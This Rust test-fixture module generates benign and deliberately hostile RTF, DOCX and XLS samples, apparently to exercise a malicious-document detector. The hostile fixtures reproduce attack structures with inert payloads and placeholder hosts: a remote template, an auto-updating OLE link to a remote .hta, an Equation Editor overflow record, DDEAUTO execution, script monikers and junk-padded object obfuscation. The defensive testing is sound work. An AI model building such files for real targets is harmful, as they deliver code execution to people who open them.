//! RTF: letters as people write them, and objects as attackers do (RTF 1.9.1; [MS-OLEDS] 2.2).

use super::Fixture;
use super::cfb::Cfb;
use super::ooxml::Package;

/// A class identifier in the byte order of files.
const fn class(first: u32, second: u16, third: u16, rest: [u8; 8]) -> [u8; 16] {
    let ([a, b, c, d], [e, f], [g, h]) = (first.to_le_bytes(), second.to_le_bytes(), third.to_le_bytes());
    let [i, j, k, l, m, n, o, p] = rest;
    [a, b, c, d, e, f, g, h, i, j, k, l, m, n, o, p]
}

const fn office(first: u32) -> [u8; 16] {
    class(first, 0, 0, [0xC0, 0, 0, 0, 0, 0, 0, 0x46])
}

const EQUATION: [u8; 16] = office(0x0002_CE02);
const WORKSHEET: [u8; 16] = office(0x0002_0820);
const LINK: [u8; 16] = office(0x0300);
const URL: [u8; 16] = class(0x79EA_C9E0, 0xBAF9, 0x11CE, [0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B]);
const FILE: [u8; 16] = office(0x0303);
const SCRIPT: [u8; 16] = class(0x0629_0BD3, 0x48AA, 0x11D2, [0x84, 0x32, 0x00, 0x60, 0x08, 0xC3, 0xFB, 0xFC]);
const EXPLORER: [u8; 16] = class(0xEAB2_2AC3, 0x30C1, 0x11CF, [0xA7, 0xEB, 0, 0, 0xC0, 0x5B, 0xAE, 0x0B]);
const FLASH: [u8; 16] = class(0xD27C_DB6E, 0xAE6D, 0x11CF, [0x96, 0xB8, 0x44, 0x45, 0x53, 0x54, 0, 0]);

/// LengthPrefixedAnsiString.
fn prefixed(text: &str) -> Vec<u8> {
    if text.is_empty() {
        return vec![0; 4];
    }
    [&(text.len() as u32 + 1).to_le_bytes()[..], text.as_bytes(), b"\0"].concat()
}

/// EmbeddedObject.
fn embedded(name: &str, native: &[u8]) -> Vec<u8> {
    let mut out = vec![1, 5, 0, 0, 2, 0, 0, 0]; // OLEVersion, FormatID
    out.extend([prefixed(name), prefixed(""), prefixed("")].concat()); // ClassName, TopicName, ItemName
    out.extend((native.len() as u32).to_le_bytes()); // NativeDataSize
    out.extend(native);
    out.extend([1, 5, 0, 0, 0, 0, 0, 0]); // no Presentation
    out
}

/// LinkedObject.
fn linked(name: &str, topic: &str, item: &str) -> Vec<u8> {
    let mut out = vec![1, 5, 0, 0, 1, 0, 0, 0]; // OLEVersion, FormatID
    out.extend([prefixed(name), prefixed(topic), prefixed(item)].concat());
    out.extend([0; 12]); // NetworkName, Reserved, LinkUpdateOption
    out
}

fn hex(bytes: &[u8]) -> String {
    let digits: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    let lines: Vec<&str> = digits.as_bytes().chunks(128).map(|line| std::str::from_utf8(line).unwrap()).collect();
    lines.join("\n")
}

fn object(words: &str, class: &str, data: &str) -> String {
    format!("{{\\object{words}{{\\*\\objclass {class}}}{{\\*\\objdata {data}}}{{\\result Object}}}}")
}

fn document(body: &str) -> Vec<u8> {
    format!("{{\\rtf1\\ansi\\deff0{{\\fonttbl{{\\f0 Arial;}}}}\\pard {body}\\par}}").into_bytes()
}

/// OLENativeStream's content as the Packager writes it ([MS-OLEDS] 2.3.6).
fn package(name: &str, data: &[u8]) -> Vec<u8> {
    let path = format!("C:\\work\\{name}\0");
    let mut out = vec![2, 0];
    out.extend(format!("{name}\0{path}").bytes());
    out.extend([0, 0, 3, 0]);
    out.extend((path.len() as u32).to_le_bytes());
    out.extend(path.bytes());
    out.extend((data.len() as u32).to_le_bytes());
    out.extend(data);
    out
}

/// OLEStream (2.3.3) of a link.
fn link_stream(monikers: &[u8]) -> Vec<u8> {
    let mut out = vec![1, 0, 0, 2, 1, 0, 0, 0]; // Version, Flags
    out.extend([1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]); // LinkUpdateOption …
    out.extend((monikers.len() as u32 + 4).to_le_bytes()); // AbsoluteSourceMonikerStreamSize
    out.extend(monikers);
    out
}

fn url_moniker(address: &str) -> Vec<u8> {
    let text: Vec<u8> = address.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect();
    [&URL[..], &(text.len() as u32).to_le_bytes(), &text].concat()
}

fn file_moniker(path: &str) -> Vec<u8> {
    [&FILE[..], &[0, 0], &(path.len() as u32 + 1).to_le_bytes(), path.as_bytes(), &[0; 29]].concat()
}

/// EQNOLEFILEHDR and MTEF 3.
fn formula(records: &[u8]) -> Vec<u8> {
    let mut out = vec![28, 0, 0, 0, 2, 0, 0, 0]; // cbHdr, version, cf
    out.extend((records.len() as u32 + 5).to_le_bytes()); // cbObject
    out.resize(28, 0);
    [out, vec![3, 1, 1, 3, 0], records.to_vec()].concat()
}

/// x over y.
const FRACTION: &[u8] = &[0x0A, 1, 3, 0x0E, 0, 0, 1, 2, 0x83, b'x', 0, 0, 1, 2, 0x83, b'y', 0, 0, 0, 0, 0];

fn equation(records: &[u8]) -> Vec<u8> {
    Cfb::new().clsid(EQUATION).stream("\u{1}Ole", vec![0; 20]).stream("Equation Native", formula(records)).build()
}

fn book() -> Cfb {
    let book = [&[0x09, 8, 16, 0, 0, 6, 5, 0][..], &[0; 12], &[0x0A, 0, 0, 0]].concat(); // BOF, EOF
    Cfb::new().clsid(WORKSHEET).stream("Workbook", book)
}

fn worksheet() -> Vec<u8> {
    book().stream("\u{1}Ole", vec![0; 20]).build()
}

/// CompObjHeader ([MS-OLEDS] 2.3.7) and no names.
fn comp_obj(class: &[u8; 16]) -> Vec<u8> {
    [&[1, 0, 0xFE, 0xFF, 3, 10, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF][..], class, &[0; 12]].concat()
}

fn storage(monikers: &[u8]) -> Vec<u8> {
    Cfb::new().clsid(LINK).stream("\u{1}Ole", link_stream(monikers)).build()
}

const OLE_OBJECT: &str = "application/vnd.openxmlformats-officedocument.oleObject";

/// A document with one control of a class.
fn control(class: &str) -> Vec<u8> {
    let part = format!(
        "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{{{class}}}\" ax:persistence=\"persistPropertyBag\"/>"
    );
    Package::word(false)
        .part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", part.as_bytes())
        .build()
}

fn update_link(monikers: &[u8]) -> Vec<u8> {
    let storage = storage(monikers);
    document(&object("\\objautlink\\objupdate\\rsltpict", "Word.Document.8", &hex(&embedded("OLE2Link", &storage))))
}

/// Digits with everything between them that Word passes over.
fn scrambled(bytes: &[u8]) -> String {
    let junk = ["{\\*\\junk 4141}", "\\x ", " \r\n", "{", "}", "zzqw", "\\'41", "{\\*\\title ff}", "\\y12 "];
    let (first, last) = bytes.split_at(bytes.len() / 2);
    let pairs = first.iter().enumerate().map(|(at, byte)| format!("{}{byte:02X}", junk[at % junk.len()]));
    // A group must not open as the last thing: the braces of the list come in pairs.
    let mut out: String = pairs.take(first.len() / 9 * 9).collect();
    out.extend(first.iter().skip(first.len() / 9 * 9).map(|byte| format!("{byte:02x}")));
    out.extend([format!("\\bin{} ", last.len())]);
    out.extend(last.iter().map(|byte| char::from(*byte)));
    out
}

/// Latin letters are bytes here.
fn bytes(text: &str) -> Vec<u8> {
    text.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect()
}

pub(crate) fn fixtures() -> Vec<Fixture> {
    let letter = "{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fcharset128 MS Mincho;}{\\f1 Arial;}}{\\colortbl;\\red0\\green0\\blue255;}\
        {\\stylesheet{\\s0 Normal;}}{\\*\\generator Writer;}{\\info{\\title Letter}{\\author A}}\\pard\\f0 \\'8b\\'63\\'8e\\'96\\'98\\'5e\\par\
        {\\f1 Minutes of {\\b Monday}\\par}{\\header Page {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}}}";
    let picture = "{\\pict\\pngblip\\picw1\\pich1 89504e470d0a1a0a0000000d49484452}{\\field{\\*\\fldinst { HYPERLINK \"https://www.example/\" }}\
        {\\fldrslt {our page}}}{\\*\\template C:\\\\Templates\\\\letter.dot}{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv logo.png}}}}";
    let honest = [
        ("rtf-honest-letter", "letter.rtf", letter.as_bytes().to_vec()),
        ("rtf-honest-picture", "page.rtf", document(picture)),
        (
            "rtf-honest-worksheet",
            "table.rtf",
            document(&object(
                "\\objemb\\objw100\\objh100",
                "Excel.Sheet.8",
                &hex(&embedded("Excel.Sheet.8", &worksheet())),
            )),
        ),
        (
            "rtf-honest-equation",
            "paper.rtf",
            document(&object("\\objemb", "Equation.3", &hex(&embedded("Equation.3", &equation(FRACTION))))),
        ),
        (
            "rtf-honest-local-link",
            "report.rtf",
            document(&object(
                "\\objautlink\\objupdate",
                "Excel.Sheet.8",
                &hex(&linked("Excel.Sheet.8", "C:\\data\\sales.xls", "R1C1")),
            )),
        ),
        (
            "rtf-honest-package",
            "notes.rtf",
            document(&object(
                "\\objemb",
                "Package",
                &hex(&embedded("Package", &package("notes.txt", b"ordinary notes\r\n"))),
            )),
        ),
        (
            "rtf-honest-static-picture",
            "chart.rtf",
            document(&object("\\objemb", "StaticMetafile", &hex(&embedded("StaticMetafile", &[0; 40])))),
        ),
        ("docx-honest-control", "form.docx", control("D7053240-CE69-11CD-A777-00DD01143C57")),
        (
            "xls-honest-equation",
            "paper.xls",
            book()
                .stream("MBD00000001/\u{1}CompObj", comp_obj(&EQUATION))
                .stream("MBD00000001/Equation Native", formula(FRACTION))
                .build(),
        ),
    ];
    let long_name = [&[0x0A, 1, 8, 0x5A, 0x5A][..], &[b'a'; 48], &[0, 0, 0]].concat();
    let script = || embedded("Package", &package("note.js", b"var inert = 1;\r\n"));
    let explorer = || Cfb::new().clsid(EXPLORER).stream("CONTENTS", vec![0; 16]).build();
    let composite = [file_moniker("C:\\a.sct"), SCRIPT.to_vec()].concat();
    let fonts = "\\f1".repeat(32_100);
    let flash =
        book().stream("MBD00000001/\u{1}CompObj", comp_obj(&FLASH)).stream("MBD00000001/Contents", vec![0; 8]).build();
    let editor = book()
        .stream("MBD00000001/\u{1}CompObj", comp_obj(&EQUATION))
        .stream("MBD00000001/equation native", formula(&long_name))
        .build();
    let damaged = [
        &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0xFF][..],
        &[0xFF; 40],
        &url_moniker("http://host.example/a"),
    ]
    .concat();
    let hostile = [
        ("rtf-remote-template", "invoice.doc", document("{\\*\\template http://host.example/t\\u46 ?dotm}")),
        (
            "rtf-remote-picture",
            "offer.rtf",
            document("{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv \\\\\\\\host.example\\\\a.png}}}}"),
        ),
        ("rtf-package-script", "invoice.rtf", document(&object("\\objemb", "Package", &hex(&script())))),
        ("rtf-update-link", "invoice.doc", update_link(&url_moniker("http://host.example/a.hta"))),
        ("rtf-update-share", "invoice.rtf", update_link(&file_moniker("\\\\host.example\\share\\a.doc"))),
        ("rtf-script-moniker", "invoice.rtf", update_link(&composite)),
        (
            "rtf-linked-web",
            "invoice.rtf",
            document(&object("\\objautlink", "htmlfile", &hex(&linked("htmlfile", "https://host.example/a.html", "")))),
        ),
        (
            "rtf-equation-overflow",
            "order.doc",
            document(&object(
                "\\objemb\\objupdate",
                "Equation.3",
                &hex(&embedded("Equation.3", &equation(&long_name))),
            )),
        ),
        (
            "rtf-equation-native",
            "order.rtf",
            document(&object("\\objocx", "Word.Document.12", &hex(&embedded("eQuATioN.3", &formula(&long_name))))),
        ),
        ("rtf-shell-explorer", "notice.rtf", document(&object("\\objocx", "x", &hex(&embedded("x", &explorer()))))),
        (
            "rtf-scrambled-object",
            "order.rtf",
            bytes(&format!("{{\\rt{}}}", object("", "Package", &scrambled(&script())))),
        ),
        (
            "rtf-broken-header",
            "order.rtf",
            document(&object("\\objemb", "x", &hex(&[&[0xFF; 24][..], &explorer()].concat()))),
        ),
        ("rtf-no-object", "order.rtf", document(&object("\\objemb", "x", "0102030405060708090a"))),
        (
            "rtf-dde",
            "list.rtf",
            document("{\\field{\\*\\fldinst { D}{DE}AUTO c:\\\\\\\\a.exe \"inert\"}{\\fldrslt 1}}"),
        ),
        ("rtf-font-table", "fonts.rtf", bytes(&format!("{{\\rtf1{{\\fonttbl{fonts}}}x}}"))),
        (
            "rtf-truncated",
            "cut.rtf",
            bytes(&format!("{{\\rtf1 {}", &object("\\objemb", "Package", &hex(&script()))[..220])),
        ),
        (
            "rtf-damaged-storage",
            "order.rtf",
            document(&object("\\objautlink", "x", &hex(&embedded("OLE2Link", &damaged)))),
        ),
        ("docx-control", "form.docx", control("8856F961-340A-11D0-A96B-00C04FD705A2")),
        (
            "docx-link",
            "report.docx",
            Package::word(false)
                .part(
                    "word/embeddings/oleObject1.bin",
                    OLE_OBJECT,
                    &storage(&url_moniker("https://host.example/a.doc")),
                )
                .build(),
        ),
        ("xls-control", "form.xls", flash),
        ("xls-equation-overflow", "order.xls", editor),
    ];
    let hostile = hostile.into_iter().map(|(id, file, bytes)| Fixture::new(id, file, bytes));
    let honest = honest.into_iter().map(|(id, file, bytes)| Fixture::new(id, file, bytes).honest());
    hostile.chain(honest).collect()
}
